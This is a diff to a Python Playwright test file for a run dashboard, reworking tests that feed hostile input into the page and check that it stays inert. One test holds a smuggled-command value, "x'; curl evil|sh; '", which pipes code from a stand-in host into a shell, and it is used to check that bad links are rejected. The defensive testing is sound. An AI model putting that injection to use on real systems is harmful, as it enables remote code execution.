@@ -130,27 +130,29 @@ def hostile(picture: Any, text: str) -> Any:
     return text if isinstance(picture, str) else picture
 
 
-@pytest.mark.parametrize("text", EVIL, ids=[ascii(text[:12]) for text in EVIL])
-def test_whatever_strangers_write_is_text(opened: Open, server: PageServer, run: FakeRun, text: str) -> None:
-    page = opened(server.url, viewport=PHONE)
+def test_whatever_strangers_write_is_text(opened: Open, server: PageServer, run: FakeRun) -> None:
+    page, picture = opened(server.url, viewport=PHONE), run.picture
     count = "document.querySelectorAll('main img, script:not([src]), main h1, main a, main [onclick], main iframe').length"
     before = page.evaluate(count)
-    picture = run.picture
-    evil = hostile({name: picture[name] for name in ("votes", "evaluations", "credit", "troubles", "members")}, text[:9000])
-    for member in evil["members"]:  # A member's id is one row.
-        member["peer"] = text[:9000] + str(random.random())
-    evil |= dict.fromkeys(("name", "model", "link", "owner", "decides", "verified", "flockstep"), text)
-    evil["progress"] = {**picture["progress"], "reason": text, "state": text}
-    evil["recent"] = [{**row, "out": [{"peer": 0, "reason": text}]} for row in picture["recent"][:3]]
-    server.publish({**picture, **evil})
-    expect(page.locator("#rounds tbody tr")).to_have_count(3)
-    assert page.evaluate(count) == before
-    assert page.evaluate("window.pwned") is None
-    assert page.evaluate("({}).polluted === undefined && Object.prototype.name === undefined")
-    assert page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]
-    shown = page.evaluate("document.body.innerText")
-    assert len(shown) < 100_000
-    assert not set("\x1b\x07\x00\u202e\u2066\u200b\ufeff") & set(shown)
+    for number, text in enumerate(EVIL):
+        evil = hostile(
+            {name: picture[name] for name in ("votes", "evaluations", "credit", "troubles", "members")}, text[:9000]
+        )
+        for member in evil["members"]:  # A member's id is one row.
+            member["peer"] = text[:9000] + str(random.random())
+        evil |= dict.fromkeys(("name", "model", "link", "owner", "decides", "verified", "flockstep"), text)
+        evil["progress"] = {**picture["progress"], "reason": text, "state": text}
+        rows = 2 + number % 2  # Another number each time: so this text is shown, and not the one before.
+        evil["recent"] = [{**row, "out": [{"peer": 0, "reason": text}]} for row in picture["recent"][:rows]]
+        server.publish({**picture, **evil})
+        expect(page.locator("#rounds tbody tr")).to_have_count(rows)
+        assert page.evaluate(count) == before
+        assert page.evaluate("window.pwned") is None
+        assert page.evaluate("({}).polluted === undefined && Object.prototype.name === undefined")
+        assert page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]
+        shown = page.evaluate("document.body.innerText")
+        assert len(shown) < 100_000
+        assert not set("\x1b\x07\x00\u202e\u2066\u200b\ufeff") & set(shown)
 
 
 def test_the_policy_really_blocks(opened: Open, server: PageServer) -> None:
@@ -249,12 +251,14 @@ def test_what_one_drawn_member_states_is_marked_as_its_word(opened: Open, server
     expect(page.locator("#tiles")).to_contain_text("stated by 1;")
 
 
-@pytest.mark.parametrize("run_id", ["x'; curl evil|sh; '", "", "b" * 51, "b" * 52 + "\n"])
-def test_what_is_no_link_cannot_be_copied(opened: Open, server: PageServer, run: FakeRun, run_id: str) -> None:
+def test_what_is_no_link_cannot_be_copied(opened: Open, server: PageServer, run: FakeRun) -> None:
     page = opened(server.url)
-    server.publish({**run.picture, "link": f"flockstep://{run_id}?via=/ip4/192.0.2.7/tcp/4001/p2p/{peer_id(99)}"})
-    expect(page.locator("#join-line")).to_have_text("The link of this run is not known yet.")
-    assert page.locator("#copy").is_disabled()
+    for run_id in ("x'; curl evil|sh; '", "", "b" * 51, "b" * 52 + "\n"):
+        server.publish(run.picture)
+        expect(page.locator("#join-line")).to_contain_text("flockstep join")
+        server.publish({**run.picture, "link": f"flockstep://{run_id}?via=/ip4/192.0.2.7/tcp/4001/p2p/{peer_id(99)}"})
+        expect(page.locator("#join-line")).to_have_text("The link of this run is not known yet.")
+        assert page.locator("#copy").is_disabled()
 
 
 def test_a_screen_reader_finds_landmarks_captions_and_names(opened: Open, server: PageServer) -> None:
